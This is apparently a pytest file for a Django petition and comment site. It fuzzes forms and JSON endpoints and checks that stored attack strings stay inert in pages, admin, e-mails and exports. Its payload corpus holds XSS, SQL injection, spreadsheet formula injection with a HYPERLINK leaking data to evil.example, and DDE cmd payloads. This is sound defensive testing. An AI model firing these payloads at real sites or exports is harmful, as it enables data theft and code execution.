"""Hostile input against every public form and JSON endpoint: property-based tests (hypothesis) and a corpus of
known attacks. Nothing may answer 5xx, and whatever is stored stays inert wherever it is shown again: pages, the
admin, e-mails, the API and exports.
"""

import csv
import io
import json

import pytest
from django.core import mail
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from comments.models import Comment
from petitions.models import Signature

# Built at run time: a source constant holding one cannot be compiled on Python 3.13 (assertion rewriting).
LONE_SURROGATE = chr(0xD800)

PETITION_FIELDS = ("name", "email", "postcode", "country", "comment", "consent", "website")
COMMENT_FIELDS = ("name", "email", "body", "parent", "notify", "website")
PROPERTY_SETTINGS = settings(
    max_examples=40,
    deadline=None,
    database=None,  # no example database written into the working tree
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

XSS = ['<script>alert("xss")</script>', '"><img src=x onerror=alert(1)>', "javascript:alert(1)"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
SQLISH = ["'; DROP TABLE petitions_signature; --", "1' OR '1'='1", "\\'; SELECT pg_sleep(10); --"]
ODD_TEXT = ["a\x00b", "\u202egnp.exe", "zero\u200bwidth\u200djoiner\ufeff", "\U0001f4a9" * 50, "e\u0301" * 30]
PAYLOADS = XSS + FORMULAS + SQLISH + ODD_TEXT
# What must never reach an HTML page, the admin or an HTML e-mail unescaped.
ACTIVE_MARKUP = ["<script>alert", "<img src=x onerror"]

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3),
    max_leaves=10,
)
form_text = st.text(max_size=300) | st.sampled_from(PAYLOADS)


def post_json(client, path, payload):
    return client.post(path, json.dumps(payload), content_type="application/json")


def assert_no_server_error(response):
    assert response.status_code < 500, response.content[:500]


# --- Property-based -----------------------------------------------------------------------------------------


@PROPERTY_SETTINGS
@given(data=st.fixed_dictionaries({}, optional=dict.fromkeys(PETITION_FIELDS, form_text)))
def test_the_sign_form_never_fails_on_any_text(client, campaign, data):
    response = client.post(f"/petitions/{campaign.petition.pk}/sign/", data)
    assert_no_server_error(response)


@PROPERTY_SETTINGS
@given(payload=json_values | st.dictionaries(st.sampled_from(PETITION_FIELDS + ("captcha",)), json_values))
def test_the_sign_endpoint_never_fails_on_any_json(client, campaign, payload):
    response = post_json(client, f"/api/v2/petitions/{campaign.petition.pk}/signatures/", payload)
    assert_no_server_error(response)
    assert response["Content-Type"] == "application/json"


@PROPERTY_SETTINGS
@given(data=st.fixed_dictionaries({}, optional=dict.fromkeys(COMMENT_FIELDS, form_text)))
def test_the_comment_form_never_fails_on_any_text(client, campaign, data):
    response = client.post("/comments/post/", {"page_id": campaign.page.pk, **data})
    assert_no_server_error(response)


@PROPERTY_SETTINGS
@given(payload=json_values | st.dictionaries(st.sampled_from(COMMENT_FIELDS + ("page_id", "captcha")), json_values))
def test_the_comment_endpoint_never_fails_on_any_json(client, campaign, payload):
    response = post_json(client, "/api/v2/comments/", payload)
    assert_no_server_error(response)
    assert response["Content-Type"] == "application/json"


@PROPERTY_SETTINGS
@given(
    name=st.sampled_from(
        ["page_id", "limit", "offset", "comments-page", "replyto", "thread", "replies_limit", "signed", "q"]
    ),
    value=form_text,
)
def test_query_parameters_never_fail(client, campaign, name, value):
    for path in ["/api/v2/comments/", "/api/v2/petitions/", campaign.page.url, f"/petitions/{campaign.petition.pk}/"]:
        params = {name: value} if name != "q" else {"page_id": campaign.page.pk, name: value}
        assert_no_server_error(client.get(path, params))


# --- Malformed requests ---------------------------------------------------------------------------------------


@pytest.fixture
def endpoints(campaign):
    return [f"/api/v2/petitions/{campaign.petition.pk}/signatures/", "/api/v2/comments/"]


def test_ten_megabyte_bodies_are_refused_413_before_they_are_read(client, campaign, endpoints):
    body = "x" * (10 * 1024 * 1024)
    for path in [*endpoints, f"/petitions/{campaign.petition.pk}/sign/", "/comments/post/"]:
        response = client.generic("POST", path, body, content_type="application/json")
        assert response.status_code == 413, path
    assert Signature.objects.count() == Comment.objects.count() == 0


def test_the_longest_comment_of_four_byte_characters_fits_under_the_body_limit(client, campaign):
    body = "\U0001f4a9" * 5000  # percent-encoded in a form post, \u-escaped in JSON: about 60 KB either way
    form = client.post(
        "/comments/post/", {"page_id": campaign.page.pk, "name": "Ada", "email": "a@example.org", "body": body}
    )
    api = post_json(
        client,
        "/api/v2/comments/",
        {"page_id": campaign.page.pk, "name": "Ada", "email": "a@example.org", "body": body},
    )
    assert (form.status_code, api.status_code) == (302, 201)


def test_deeply_nested_json_is_a_400(client, endpoints):
    for depth in (100, 5_000, 30_000):
        for path in endpoints:
            response = client.generic("POST", path, "[" * depth + "]" * depth, content_type="application/json")
            assert response.status_code == 400, (path, depth)


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/plain", "name=Ada"),
        ("application/x-www-form-urlencoded", "name=Ada&email=ada%40example.org"),
        ("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=name\r\n\r\nAda\r\n--x--"),
        ("application/xml", "<name>Ada</name>"),
        ("application/json", "{not json"),
        ("application/json", "\x00\x01\x02"),
        ("application/json; charset=utf-16", '{"name": "Ada"}'),
    ],
)
def test_wrong_content_types_and_broken_json_are_4xx(client, endpoints, content_type, body):
    for path in endpoints:
        response = client.generic("POST", path, body, content_type=content_type)
        assert 400 <= response.status_code < 500, (path, response.status_code)


def test_null_bytes_are_refused_with_400_not_stored(client, campaign):
    petition_path = f"/api/v2/petitions/{campaign.petition.pk}/signatures/"
    for field in ("name", "email", "postcode", "comment"):
        payload = {"name": "Ada", "email": "ada@example.org", field: "bad\x00value"}
        assert post_json(client, petition_path, payload).status_code == 400, field
        assert client.post(f"/petitions/{campaign.petition.pk}/sign/", payload).status_code == 200  # form re-shown
    for field in ("name", "email", "body"):
        payload = {"page_id": campaign.page.pk, "name": "Ada", "email": "ada@example.org", "body": "Hi", field: "a\x00"}
        assert post_json(client, "/api/v2/comments/", payload).status_code == 400, field
        assert client.post("/comments/post/", payload).status_code == 400, field
    assert Signature.objects.count() == Comment.objects.count() == 0


UNPRINTABLE = {
    "C0 control": "Ada\x01Lovelace",
    "escape": "Ada\x1b[31m",
    "C1 control": "Ada\x85Lovelace",
    "delete": "Ada\x7f",
    "non-character U+FFFF": "Ada\uffff",
    "non-character U+FFFE": "\ufffeAda",
    "non-character U+FDD0": "Ada\ufdd0",
    "plane-16 non-character": "Ada\U0010ffff",
}
REFUSED_TEXT = "Please remove the control characters or other invalid characters from this text."


def sign_json(client, campaign, **fields):
    payload = {"name": "Ada", "email": "ada@example.org", **fields}
    return post_json(client, f"/api/v2/petitions/{campaign.petition.pk}/signatures/", payload)


def comment_json(client, campaign, **fields):
    payload = {"page_id": campaign.page.pk, "name": "Ada", "email": "ada@example.org", "body": "Hi", **fields}
    return post_json(client, "/api/v2/comments/", payload)


@pytest.mark.parametrize("text", UNPRINTABLE.values(), ids=UNPRINTABLE.keys())
def test_control_characters_and_non_characters_are_refused_at_signing(client, campaign, text):
    """Issue 16 item 3: such characters reached the exports (openpyxl refused the row, XML became ill-formed)."""
    for field in ("name", "comment"):
        response = sign_json(client, campaign, **{field: text})
        assert response.status_code == 400 and response.json() == {"errors": {field: [REFUSED_TEXT]}}, field
        form = client.post(
            f"/petitions/{campaign.petition.pk}/sign/", {"name": "Ada", "email": "a@example.org", field: text}
        )
        assert form.status_code == 200 and REFUSED_TEXT in form.content.decode(), field
    assert Signature.objects.count() == 0


@pytest.mark.parametrize("text", UNPRINTABLE.values(), ids=UNPRINTABLE.keys())
def test_control_characters_and_non_characters_are_refused_in_comments(client, campaign, text):
    """Issue 16 item 3."""
    for field in ("name", "body"):
        response = comment_json(client, campaign, **{field: text})
        assert response.status_code == 400 and response.json() == {"errors": {field: [REFUSED_TEXT]}}, field
        data = {"page_id": campaign.page.pk, "name": "Ada", "email": "a@example.org", "body": "Hi", field: text}
        form = client.post("/comments/post/", data)
        assert form.status_code == 400 and REFUSED_TEXT in form.content.decode(), field
    assert Comment.objects.count() == 0


def test_an_address_with_a_control_character_is_refused(client, campaign):
    """Issue 16 item 3: Django's e-mail validator accepts a control character between quotes; exports then failed."""
    address = '"\x01"@example.com'
    assert sign_json(client, campaign, email=address).json() == {"errors": {"email": [REFUSED_TEXT]}}
    assert comment_json(client, campaign, email=address).json() == {"errors": {"email": [REFUSED_TEXT]}}
    data = {"name": "Ada", "email": address}
    assert REFUSED_TEXT in client.post(f"/petitions/{campaign.petition.pk}/sign/", data).content.decode()
    data = {"page_id": campaign.page.pk, "name": "Ada", "email": address, "body": "Hi"}
    assert REFUSED_TEXT in client.post("/comments/post/", data).content.decode()
    assert Signature.objects.count() == Comment.objects.count() == 0


def test_line_breaks_and_tabs_stay_allowed_in_comments_and_nowhere_else(client, campaign):
    """Issue 16 item 3: a comment's text may hold the line breaks and tabs a textarea sends; a name may not."""
    text = "First line\r\nSecond\tline"
    assert sign_json(client, campaign, comment=text).status_code == 202
    assert comment_json(client, campaign, body=text).status_code == 201
    assert comment_json(client, campaign, name="Ada\nLovelace", email="b@example.org").json() == {
        "errors": {"name": [REFUSED_TEXT]}
    }
    assert Signature.objects.get().comment == "First line\nSecond\tline"
    assert Comment.objects.get().body.splitlines() == ["First line", "Second\tline"]


@pytest.mark.parametrize("field", ["name", "email", "postcode", "country", "comment"])
def test_a_lone_surrogate_in_a_signature_is_a_400(client, campaign, field):
    """Issue 16 item 4: "\\ud800" in any string of the JSON body was a 500."""
    response = sign_json(client, campaign, **{field: "A" + LONE_SURROGATE})

    assert response.status_code == 400 and list(response.json()["errors"]) == [field]
    assert Signature.objects.count() == 0


@pytest.mark.parametrize("field", ["name", "email", "body"])
def test_a_lone_surrogate_in_a_comment_is_a_400(client, campaign, field):
    """Issue 16 item 4."""
    response = comment_json(client, campaign, **{field: "A" + LONE_SURROGATE})

    assert response.status_code == 400 and list(response.json()["errors"]) == [field]
    assert Comment.objects.count() == 0


def test_a_lone_surrogate_as_the_captcha_token_is_a_400(client, campaign, settings):
    """Issue 16 item 4: the token could not be encoded to ask reCAPTCHA about it (a 500)."""
    settings.RECAPTCHA_PUBLIC_KEY, settings.RECAPTCHA_PRIVATE_KEY = "public-test-key", "private-test-key"

    signing = sign_json(client, campaign, captcha="A" + LONE_SURROGATE)
    commenting = comment_json(client, campaign, captcha="A" + LONE_SURROGATE)

    assert signing.status_code == commenting.status_code == 400
    assert "captcha" in signing.json()["errors"] and list(commenting.json()["errors"]) == ["captcha"]


def long_address(length):
    """A valid-looking address of exactly `length` characters (labels of at most 63)."""
    domain = ".".join(["d" * 63] * 3 + ["org"])
    local = "a" * (length - len(domain) - 1)
    return f"{local}@{domain}"


@pytest.mark.parametrize("length", [255, 320])
def test_a_comment_address_longer_than_its_column_is_a_400(client, campaign, length):
    """Issue 16 item 4: the form allowed 320 characters, the column holds 254 (PostgreSQL answered 500)."""
    address = long_address(length)
    assert len(address) == length

    api = comment_json(client, campaign, email=address)
    form = client.post("/comments/post/", {"page_id": campaign.page.pk, "name": "Ada", "email": address, "body": "Hi"})

    assert api.status_code == 400 and list(api.json()["errors"]) == ["email"]
    assert form.status_code == 400
    assert Comment.objects.count() == 0


def test_a_page_id_too_large_for_a_float_is_a_400(client, campaign):
    """Issue 16 item 4: {"page_id": 1e400} (infinity once parsed) was a 500."""
    for raw in ('{"page_id": 1e400, "name": "Ada", "email": "a@example.org", "body": "Hi"}', '{"page_id": 1.5}'):
        response = client.post("/api/v2/comments/", raw, content_type="application/json")
        assert response.status_code == 400 and list(response.json()["errors"]) == ["page_id"], raw


def test_a_server_error_under_the_api_answers_the_json_error_envelope(client, campaign, monkeypatch):
    """Issue 16 item 4: an unexpected error under /api/ answered Django's HTML 500 page."""

    def fail(*args, **kwargs):
        raise RuntimeError("unexpected")

    monkeypatch.setattr("petitions.api.PetitionsAPIViewSet.listing", fail)
    monkeypatch.setattr("petitions.views.render", fail)
    client.raise_request_exception = False

    api = client.get("/api/v2/petitions/")
    page = client.get(f"/petitions/{campaign.petition.pk}/")

    assert api.status_code == 500 and api["Content-Type"] == "application/json"
    assert list(api.json()) == ["errors"] and list(api.json()["errors"]) == ["__all__"]
    assert page.status_code == 500 and page["Content-Type"].startswith("text/html")


# --- The corpus, stored and shown again -------------------------------------------------------------------------


def stored_payloads(client, campaign):
    """Sign and comment with every payload in every text field that accepts it; the payloads that were stored."""
    sign_path = f"/api/v2/petitions/{campaign.petition.pk}/signatures/"
    for number, payload in enumerate(PAYLOADS):
        signature = {"name": payload, "email": f"signer{number}@example.org", "comment": payload, "country": "GB"}
        assert_no_server_error(post_json(client, sign_path, signature))
        comment = {"page_id": campaign.page.pk, "name": payload, "email": f"c{number}@example.org", "body": payload}
        assert_no_server_error(post_json(client, "/api/v2/comments/", comment))
    return Signature.objects.count(), Comment.objects.count()


def assert_inert_html(html, where):
    for markup in ACTIVE_MARKUP:
        assert markup not in html, f"{markup!r} unescaped in {where}"


def read_csv(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_the_payload_corpus_is_inert_in_pages_admin_emails_api_and_exports(client, admin_client, campaign, settings):
    mail.outbox.clear()
    signatures, comments = stored_payloads(client, campaign)
    assert signatures >= len(PAYLOADS) - len(ODD_TEXT) and comments >= len(PAYLOADS) - len(ODD_TEXT)
    petition = campaign.petition
    first_signature = Signature.objects.filter(name__startswith="<script").first()
    first_comment = Comment.objects.filter(author_name__startswith="<script").first()

    html_outputs = {
        "campaign page": client.get(campaign.page.url).content.decode(),
        "petition page": client.get(f"/petitions/{petition.pk}/").content.decode(),
        "signatures admin": admin_client.get("/admin/petitions/signature/").content.decode(),
        "signature inspect": admin_client.get(
            f"/admin/petitions/signature/inspect/{first_signature.pk}/"
        ).content.decode(),
        "petition report": admin_client.get(f"/admin/petitions/petition/inspect/{petition.pk}/").content.decode(),
        "comments admin": admin_client.get("/admin/comments/comment/").content.decode(),
        "comment inspect": admin_client.get(f"/admin/comments/comment/inspect/{first_comment.pk}/").content.decode(),
    }
    html_outputs.update(
        {
            f"e-mail to {m.to[0]}": alternative
            for m in mail.outbox
            for alternative, _type in getattr(m, "alternatives", [])
        }
    )
    for where, html in html_outputs.items():
        assert_inert_html(html, where)
    assert "&lt;script&gt;alert" in html_outputs["comment inspect"]

    listing = client.get("/api/v2/comments/", {"page_id": campaign.page.pk, "limit": 100})
    bodies = {comment["body"] for comment in listing.json()["items"]}
    assert listing["Content-Type"] == "application/json" and XSS[0] in bodies  # data, escaped by whoever shows it

    export_cells = [
        cell for row in read_csv(admin_client.get("/admin/petitions/signature/?export=csv")) for cell in row
    ]
    delivery_cells = [
        cell
        for row in read_csv(admin_client.get(f"/admin/petitions/petition/delivery_csv/{petition.pk}/"))
        for cell in row
    ]
    xlsx = load_workbook(
        io.BytesIO(b"".join(admin_client.get("/admin/petitions/signature/?export=xlsx").streaming_content))
    )
    xlsx_cells = [cell.value for row in xlsx.active.iter_rows() for cell in row]
    for formula in FORMULAS:
        assert formula not in export_cells and "'" + formula in export_cells
        assert all(not str(cell).startswith(("=", "+", "@")) for cell in export_cells + delivery_cells + xlsx_cells)
    print(
        f"\ncorpus: {len(PAYLOADS)} payloads in every text field: {signatures} signatures and {comments} comments "
        f"stored, the rest refused with 4xx; inert in {len(html_outputs)} HTML pages and e-mails, the API and "
        f"{len(export_cells) + len(delivery_cells) + len(xlsx_cells)} export cells"
    )


def test_csrf_is_enforced_on_the_public_forms_for_signed_in_users(campaign, admin_user):
    """Anonymous visitors post them without a token (campaign_common.public_forms; tests/caching)."""
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(admin_user)
    assert strict.post(f"/petitions/{campaign.petition.pk}/sign/", {"name": "Ada"}).status_code == 403
    assert strict.post("/comments/post/", {"page_id": campaign.page.pk}).status_code == 403
